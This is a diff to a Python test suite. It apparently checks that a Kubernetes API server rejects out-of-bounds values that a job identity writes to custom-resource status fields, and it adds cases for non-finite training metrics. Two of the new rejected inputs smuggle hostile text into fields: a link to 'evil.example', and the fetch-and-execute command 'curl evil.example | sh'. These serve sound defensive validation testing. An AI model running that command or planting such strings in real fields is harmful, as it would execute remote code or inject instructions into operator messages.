@@ -293,6 +293,10 @@ def eval_entry(name):
 
 # (what a job identity tries to store, the field the API server's refusal must name): the CRD's
 # static bounds (lengths, patterns, list sizes) and the job-status policy's bounds by the spec
+def non_finite(**fields):
+    return {"metric": "loss", "value": "NaN", "since": 12, "rollout": 14, "streak": 3, **fields}
+
+
 OUT_OF_BOUNDS = [
     ({"eval": [eval_entry(f"set{i}") for i in range(17)]}, "status.eval"),  # the CRD: at most 16
     ({"eval": [eval_entry("math-500")]}, "status.eval"),  # not a dataset of the spec (aime24 only)
@@ -306,6 +310,11 @@ OUT_OF_BOUNDS = [
     ({"tracking": {"wandbRunURL": "http://wandb.ai/team/proj/runs/x"}}, "status.tracking.wandbRunURL"),
     ({"tracking": {"wandbRunURL": "https://wandb.ai/" + "x" * 600}}, "status.tracking.wandbRunURL"),
     ({"progress": {"lastUpdateTime": "2026-12-01T10:00:00Z" + " " * 100}}, "status.progress.lastUpdateTime"),
+    # the operator's NonFiniteMetric message names the metric and the rollout: never job text
+    ({"metrics": {"nonFinite": [non_finite(metric="rollout/raw_reward: see https://evil.example")]}}, "status.metrics.nonFinite[0].metric"),
+    ({"metrics": {"nonFinite": [non_finite(value="NaN, run curl evil.example | sh")]}}, "status.metrics.nonFinite[0].value"),
+    ({"metrics": {"nonFinite": [non_finite(streak=0)]}}, "status.metrics.nonFinite[0].streak"),
+    ({"metrics": {"nonFinite": [non_finite(), non_finite()]}}, "status.metrics.nonFinite[1]"),  # one entry per metric
 ]
 
 
@@ -323,3 +332,4 @@ def test_job_identity_writes_only_bounded_values_named_as_the_spec(enforced, con
     assert job(kube, namespace, mine)["status"] == before
     # within the bounds: admitted
     assert patch_status(control_plane, token, namespace, mine, {"checkpoints": REPORTER_WRITES["checkpoints"]}) == (200, "")
+    assert patch_status(control_plane, token, namespace, mine, {"metrics": {"nonFinite": [non_finite()]}}) == (200, "")
